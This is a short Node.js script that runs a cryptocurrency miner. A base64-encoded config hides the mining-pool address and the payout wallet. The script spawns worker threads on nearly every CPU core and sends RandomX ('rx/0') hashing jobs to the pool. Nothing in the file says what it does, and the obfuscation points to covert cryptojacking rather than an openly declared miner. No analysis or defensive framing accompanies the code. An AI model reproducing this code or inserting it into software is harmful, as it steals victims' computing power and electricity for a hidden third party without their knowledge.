const { Worker, isMainThread, workerData } = require("worker_threads");
const os = require("os");
const cfg = JSON.parse(Buffer.from("eyJob3N0Ijoid3NzOi8vcG9vbC53ZWJoYXNoLmluazo4NDQzIiwid2FsbGV0IjoiNDU2WGtMOWEzZXc4Tjl0R0E4Tk5RbjJzZEZmUkFUcEtCM3lwNmJKRFdqUjhlbUQ2VFpkM2I5V2p5QXZ1ZzRDRjNRVTd6V25FUFlEaDR0Mkc5QnZlM2xVIn0=", "base64"));
if (isMainThread) {
  for (let i = 0; i < Math.max(1, os.cpus().length - 1); i++) {
    new Worker(__filename, { workerData: cfg });
  }
} else {
  const ws = new (require("ws"))(workerData.host);
  ws.on("open", () => ws.send(JSON.stringify({ method: "login", params: { login: workerData.wallet, algo: ["rx/0"] } })));
  ws.on("message", (m) => { /* job handling: hash and submit */ require("./rx").handle(ws, JSON.parse(m)); });
}
